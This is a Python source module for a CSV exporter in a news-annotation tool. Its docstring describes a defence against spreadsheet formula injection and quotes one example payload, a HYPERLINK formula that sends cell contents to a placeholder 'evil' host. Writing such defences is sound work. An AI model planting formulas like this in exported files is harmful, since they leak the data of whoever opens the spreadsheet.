"""CSV export for pandas, R and spreadsheets: `articles.csv` and `annotations.csv`.

UTF-8 with a byte-order mark, because spreadsheet programs otherwise guess a legacy encoding
and mangle every accented name. Offsets are code points into the article's `text` column
(which articles.csv carries), end exclusive, as everywhere in Framedesk.

Spreadsheet-safe by default: Excel and LibreOffice run a cell that starts with = + - or @
as a formula, so a hostile headline such as `=HYPERLINK("http://evil/?"&A1)` would run when
the analyst opens articles.csv. Every text cell that starts with = + - @, a tab, a carriage
return, a line feed or a single quote gets one more single quote in front (`'=HYPERLINK...`),
which spreadsheets show as text; numbers such as -2 or +1.5 are left alone. The rule is
reversible: remove one leading ' from any text cell that has one and you have the stored
value (pandas: `df[col].str.replace(r"^'", "", regex=True)`); offsets count from the
stored text. `ExportOptions(extra={"spreadsheet_safe": False})` (CLI `--no-spreadsheet-safe`)
writes every cell exactly as stored, for pandas and R; the JSONL export always keeps the
raw values.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING

from framedesk.core.exchange.coders import coder_views
from framedesk.core.exchange.gather import INTEROP_KEY, ExportRecord, iter_records, select_ids
from framedesk.core.exchange.registry import ExportFormat, ExportOptions, register_exporter
from framedesk.core.exchange.writing import atomic_file, atomic_folder
from framedesk.core.gcpause import cyclic_gc_paused
from framedesk.core.model import Span
from framedesk.core.progress import Progress

if TYPE_CHECKING:
    from framedesk.core.store.project import Project

ARTICLE_FIELDS = ("id", "uid", "title", "outlet", "url", "author", "published", "language",
                  "source_file", "status", "annotator", "primary_frame", "secondary_frames",
                  "tone",
                  "entities", "frame_cues", "attributions", "memo", "extra", "text")
ANNOTATION_FIELDS = ("article_id", "article_uid", "kind", "start", "end", "text", "label",
                     "canonical", "annotator", "origin", "status", "note",
                     "source_start", "source_end", "source_text", "cue_start", "cue_end",
                     "cue_text", "content_start", "content_end", "content_text",
                     "quote_type", "identification", "source_type", "certainty", "entity",
                     "unnamed", "codebook")
LIST_SEPARATOR = ";"
SPREADSHEET_SAFE = "spreadsheet_safe"  # key in ExportOptions.extra; absent means True
# First characters after which a spreadsheet may read a cell as a formula; the quote itself
# too, so that every cell starting with ' had one added (the rule can be undone).
FORMULA_START = frozenset("=+-@\t\r\n'")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
BOM = "\ufeff"
Cell = Callable[[str | None], str | None]
_BUFFER = 1 << 20


def spreadsheet_cell(value: str | None) -> str | None:
    """`value`, with a single quote in front if a spreadsheet could run it as a formula."""
    if value and value[0] in FORMULA_START and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _as_stored(value: str | None) -> str | None:
    return value


def write_csv(project: Project, ids: Sequence[int] | None, out: Path,
              options: ExportOptions = ExportOptions(), progress: Progress | None = None,
              *, force: bool = False) -> int:
    """A folder with articles.csv and annotations.csv; or, when `out` ends in .csv, that file
    for the articles and `<name>.annotations.csv` beside it."""
    out = Path(out)
    ids = select_ids(project, ids, options)
    progress = progress or Progress()
    progress.start(len(ids), "Exporting CSV")
    force = force or options.force
    if out.suffix.lower() == ".csv":
        ann = out.with_name(out.stem + ".annotations.csv")
        with atomic_file(out, force=force) as tmp_a, atomic_file(ann, force=force) as tmp_b:
            return _write_pair(project, ids, tmp_a, tmp_b, options, progress)
    with atomic_folder(out, force=force) as folder:
        return _write_pair(project, ids, folder / "articles.csv", folder / "annotations.csv",
                           options, progress)


def _write_pair(project: Project, ids: list[int], articles_path: Path, annotations_path: Path,
                options: ExportOptions, progress: Progress) -> int:
    cell = spreadsheet_cell if options.extra.get(SPREADSHEET_SAFE, True) else _as_stored
    n = 0
    # Plain UTF-8 plus a BOM written by hand: the same bytes as "utf-8-sig", without that
    # codec's Python-level encoder running on every write.
    with open(articles_path, "w", encoding="utf-8", newline="", buffering=_BUFFER) as fa, \
            open(annotations_path, "w", encoding="utf-8", newline="", buffering=_BUFFER) as fb:
        fa.write(BOM)
        fb.write(BOM)
        wa = csv.writer(fa)
        wb = csv.writer(fb)
        wa.writerow(ARTICLE_FIELDS)
        wb.writerow(ANNOTATION_FIELDS)
        entities = EntityLines(cell)
        with cyclic_gc_paused():   # see core/gcpause.py: many small acyclic objects
            for rec in iter_records(project, ids, options, progress):
                wa.writerows(article_rows(rec, cell))
                fb.write(entities.lines(rec))
                wb.writerows(cue_and_attribution_rows(rec, cell))
                n += 1
    return n


def article_rows(rec: ExportRecord, cell: Cell = _as_stored) -> list[list[object]]:
    """The articles.csv rows of one article: one per analyst who coded it (the `annotator`
    column), so two coders' tones are two rows, never one `neutral;implicit_pro` cell; one
    row with an empty annotator when nobody coded it."""
    return [article_row(view, cell, who) for who, view in coder_views(rec)]


def article_row(rec: ExportRecord, cell: Cell = _as_stored,
                who: str | None = None) -> list[object]:
    """One articles.csv row; `cell` is applied to every text cell (spreadsheet_cell or not)."""
    a = rec.article
    extra = {k: v for k, v in a.extra.items() if k != INTEROP_KEY}
    return [a.id, a.uid, cell(a.title), cell(a.outlet), cell(a.url), cell(a.author),
            cell(a.published), cell(a.language), cell(a.source_file), cell(a.status),
            cell(who), cell(LIST_SEPARATOR.join(rec.primary_frames)),
            cell(LIST_SEPARATOR.join(rec.secondary_frames)), cell(rec.tone),
            len(rec.mentions), len(rec.cues), len(rec.attributions), cell(rec.memo),
            json.dumps(extra, ensure_ascii=False, sort_keys=True) if extra else "",
            cell(a.text)]


class EntityLines(dict):
    """annotations.csv's entity rows as text. A corpus names the same few thousand entities
    again and again, so what follows an entity row's offsets (text, label, canonical, origin,
    status and the blank cells) is rendered by the csv module once per distinct entity and
    kept; each mention is then one string format instead of five `cell` calls and a
    27-field csv row (those were a third of the CSV export). Same bytes: the csv module
    quotes each field on its own. Emptied past LIMIT entries, so memory stays bounded."""

    LIMIT = 50_000

    def __init__(self, cell: Cell) -> None:
        super().__init__()
        self.cell = cell
        self._parts: list[str] = []
        self._writer = csv.writer(self)   # writes each row with one call to self.write
        self._end = len(self._writer.dialect.lineterminator)

    def write(self, line: str) -> None:
        self._parts.append(line)

    def _render(self, row: Sequence[object]) -> str:
        self._writer.writerow(row)
        return self._parts.pop()

    def __missing__(self, key: tuple[str, str, str | None, str, str]) -> str:
        if len(self) >= self.LIMIT:
            self.clear()
        text, label, canonical, origin, status = key
        c = self.cell
        value = self[key] = "," + self._render(
            (c(text), c(label), c(canonical), "", c(origin), c(status), "", *_BLANK))
        return value

    def lines(self, rec: ExportRecord) -> str:
        """The entity rows of one article, each ending with the line terminator."""
        a = rec.article
        head = self._render((a.id, a.uid, "entity"))[:-self._end]
        return "".join([f"{head},{m.start},{m.end}"
                        f"{self[m.text, m.label, m.canonical, m.origin, m.status]}"
                        for m in rec.mentions])


_BLANK = ("",) * 16


def cue_and_attribution_rows(rec: ExportRecord, cell: Cell = _as_stored) -> list[list[object]]:
    """The annotations.csv rows of one article after its entities (EntityLines)."""
    a = rec.article
    text = a.text
    aid, uid = a.id, a.uid  # a hash of the text: never starts like a formula
    blank = _BLANK
    rows: list[list[object]] = []
    # Document codes one row per analyst, so several coders stay apart (articles.csv joins
    # them with ';' for reading at a glance; a re-import takes these rows).
    for f in rec.frames:
        rows.append([aid, uid, "frame", "", "", "", cell(f.code), "", cell(f.annotator), "",
                     "", "primary" if f.primary else "secondary", *blank[:-1], cell(f.codebook)])
    for code, who in rec.tones:
        rows.append([aid, uid, "tone", "", "", "", cell(code), "", cell(who), "", "", "",
                     *blank])
    for who, memo in rec.memos:
        rows.append([aid, uid, "memo", "", "", cell(memo), "", "", cell(who), "", "", "",
                     *blank])
    for c in rec.cues:
        rows.append([aid, uid, "frame_cue", c.start, c.end, cell(text[c.start:c.end]),
                     cell(c.code), "", cell(c.annotator), "", "", cell(c.note), *blank[:-1],
                     cell(c.codebook)])
    for t in rec.attributions:
        spans = [s for s in (t.source, t.cue, t.content) if s is not None]
        rows.append([aid, uid, "attribution", min(s.start for s in spans),
                     max(s.end for s in spans), "", "", "", cell(t.annotator),
                     cell(t.origin), cell(t.status), "",
                     *_part(t.source, text, cell), *_part(t.cue, text, cell),
                     *_part(t.content, text, cell),
                     cell(t.quote_type), cell(t.identification),
                     cell(t.source_type), cell(t.certainty), cell(t.entity),
                     json.dumps(t.unnamed, ensure_ascii=False, sort_keys=True) if t.unnamed
                     else "", ""])
    return rows


def _part(span: Span | None, text: str,
          cell: Cell) -> tuple[object, object, str]:
    if span is None:
        return ("", "", "")
    return (span.start, span.end, cell(text[span.start:span.end]))


register_exporter(ExportFormat(
    name="csv", suffix="", write=write_csv,
    description="articles.csv + annotations.csv (UTF-8 with BOM) for pandas, R, spreadsheets;"
                " text cells starting with = + - @ get a leading ' so spreadsheets do not run"
                " them as formulas"))
